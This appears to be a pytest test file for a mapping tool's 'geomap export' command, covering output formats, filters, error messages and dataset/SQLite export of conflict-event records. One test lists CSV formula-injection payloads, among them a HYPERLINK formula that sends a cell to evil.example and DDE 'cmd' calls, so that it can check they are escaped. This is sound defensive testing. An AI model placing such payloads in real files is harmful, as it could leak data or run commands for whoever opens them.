"""``geomap export``: formats, filters, errors."""

from __future__ import annotations

import geopandas as gpd
import pytest

from geomap.store import EventStore


@pytest.fixture
def store_path(tmp_path, make_event):
    path = tmp_path / "custom.sqlite"
    with EventStore.open(path) as s:
        s.upsert_events(
            make_event(None, event_id=f"acled:{i}", event_date=f"2015-10-0{i + 1}",
                       event_type="Battles", latitude=34.7 + i / 10, longitude=36.7,
                       geo_precision=1, fatalities=i, deaths_best=i,
                       actor1="Syrian army" if i else "Rebels")
            for i in range(4)
        )  # fmt: skip
    return path


@pytest.mark.parametrize("fmt", ["geojson", "gpkg", "parquet", "csv"])
def test_export_formats_with_filters(cli, tmp_path, store_path, fmt):
    out_path = tmp_path / f"out.{fmt}"
    code, out, err = cli("export", str(out_path), "--format", fmt, "--store", str(store_path),
                         "--actor", "army", "--min-fatalities", "2")  # fmt: skip
    assert code == 0, err
    assert f"Wrote 2 events to {out_path} ({fmt})" in out
    if fmt == "csv":
        assert len(out_path.read_text().splitlines()) == 3
    else:
        frame = gpd.read_parquet(out_path) if fmt == "parquet" else gpd.read_file(out_path)
        assert sorted(frame["event_id"]) == ["acled:2", "acled:3"]


def test_export_errors(cli, tmp_path, store_path):
    code, out, err = cli("export", str(tmp_path / "x.shp"), "--store", str(store_path))
    assert code == 1 and "Cannot tell the export format" in err
    code, out, err = cli("export", str(tmp_path / "x.csv"), "--format", "kml")
    assert code == 2 and "--format" in err
    code, out, err = cli("export", str(tmp_path / "x.csv"), "--until", "2015-13")
    assert code == 1 and "until must be a date" in err
    code, out, err = cli("export", str(tmp_path / "x.csv"), "--store", str(tmp_path / "no.sqlite"))
    assert code == 1 and "There is no event store at" in err
    assert not (tmp_path / "no.sqlite").exists()


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0",
            "+SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]  # fmt: skip


def test_csv_export_neutralises_formulas(cli, tmp_path):
    path = tmp_path / "hostile.csv"
    rows = "".join(
        f'F{i},2015-09-30,Battles,Armed clash,Peru,"{f.replace(chr(34), chr(34) * 2)}",'
        f"{-12.05 + i / 100},-77.04,1,2\n"
        for i, f in enumerate(FORMULAS)
    )
    path.write_text("event_id_cnty,event_date,event_type,sub_event_type,country,location,"
                    "latitude,longitude,geo_precision,fatalities\n" + rows)  # fmt: skip
    store = tmp_path / "s.sqlite"
    assert cli("ingest", str(path), "--store", str(store)).code == 0
    out = tmp_path / "out.csv"
    code, _out, err = cli("export", str(out), "--store", str(store))
    assert code == 0, err
    import pandas as pd

    frame = pd.read_csv(out, keep_default_na=False)
    # ingest strips the tab of "\t=1+1": the stored text begins with "=" and is escaped too
    expected = sorted("'" + f.strip() for f in FORMULAS)
    assert sorted(frame["location"]) == expected
    assert set(frame["longitude"]) == {-77.04}  # numbers stay numbers
    code, _out, err = cli("export", str(out), "--store", str(store), "--no-escape-formulas")
    assert sorted(pd.read_csv(out, keep_default_na=False)["location"]) == sorted(
        f.strip() for f in FORMULAS
    )


def test_context_figures_are_exported_only_on_their_own(cli, tmp_path, make_event):
    from geomap.model import Event

    store = tmp_path / "s.sqlite"
    with EventStore.open(store) as s:
        s.upsert_events([make_event(), Event(event_id="text:ctx", deaths_low=250001,
                                             deaths_best=250001, is_context=True)])  # fmt: skip
    out = tmp_path / "e.geojson"
    code, text, err = cli("export", str(out), "--store", str(store))
    assert code == 0 and "Wrote 1 event to" in text, err
    assert list(gpd.read_file(out)["event_id"]) == ["acled:rastan"]
    code, text, err = cli("export", str(tmp_path / "c.csv"), "--store", str(store), "--context")
    assert code == 0 and "Wrote 1 context figure to" in text, err
    assert "250001" in (tmp_path / "c.csv").read_text()


def test_export_to_a_dataset_and_a_slice_back_to_a_store(cli, tmp_path, store_path):
    folder = tmp_path / "ds"
    code, out, err = cli("export", str(folder), "--to", "dataset", "--store", str(store_path))
    assert code == 0, err
    assert f"Wrote 4 events to {folder} (dataset)" in out
    assert (folder / "_geomap_index.json").is_file()
    again = cli("export", str(folder), "--to", "dataset", "--store", str(store_path),
                "--since", "2015-10-03")  # fmt: skip
    assert again.code == 0 and "Wrote 2 events" in again.out  # replaced
    out_csv = tmp_path / "from-dataset.csv"
    code, out, err = cli("export", str(out_csv), "--store", str(folder), "--actor", "army")
    assert code == 0, err
    assert sorted(line.split(",")[0] for line in out_csv.read_text().splitlines()[1:]) == [
        "acled:2", "acled:3"]  # fmt: skip
    new = tmp_path / "slice.sqlite"
    code, out, err = cli("export", str(new), "--to", "sqlite", "--store", str(folder),
                         "--min-fatalities", "3")  # fmt: skip
    assert code == 0, err
    assert f"Wrote 1 event to {new} (sqlite)" in out
    with EventStore.open(new, read_only=True) as s:
        assert [e.event_id for e in s.events()] == ["acled:3"]
    code, out, err = cli("map", "--store", str(new), "-o", str(tmp_path / "m.html"))
    assert code == 0 and "Mapped 1 event from the store" in out, err


def test_export_target_errors(cli, tmp_path, store_path):
    code, out, err = cli("export", str(tmp_path / "x"), "--to", "duckdb",
                         "--store", str(store_path))  # fmt: skip
    assert code == 2 and "--to" in err
    code, out, err = cli("export", str(store_path), "--to", "sqlite", "--store", str(store_path))
    assert code == 1 and "exists already" in err and "Fix:" in err
    code, out, err = cli("export", str(tmp_path / "c"), "--to", "dataset", "--context",
                         "--store", str(store_path))  # fmt: skip
    assert code == 1 and "events only" in err


@pytest.mark.gazetteer
def test_refresh_works_on_an_exported_store(cli, tmp_path, write_file):
    table = write_file("towns.csv", "date,town,killed\n2015-09-30,Rastan,33\n")
    assert cli("ingest", str(table), "--location-column", "town", "--country", "SY").code == 0
    new = tmp_path / "slice.sqlite"
    code, out, err = cli("export", str(new), "--to", "sqlite")
    assert code == 0, err
    assert cli("cache", "pin", "Rastan", "35.017", "36.732", "--country", "SY").code == 0
    code, out, err = cli("refresh", "--offline", "--store", str(new))
    assert code == 0, err
    assert "Rastan" in out
    code, out, err = cli("near", "35.017,36.732", "--radius", "1", "--store", str(new))
    assert code == 0 and "Total: 1 event;" in out, err
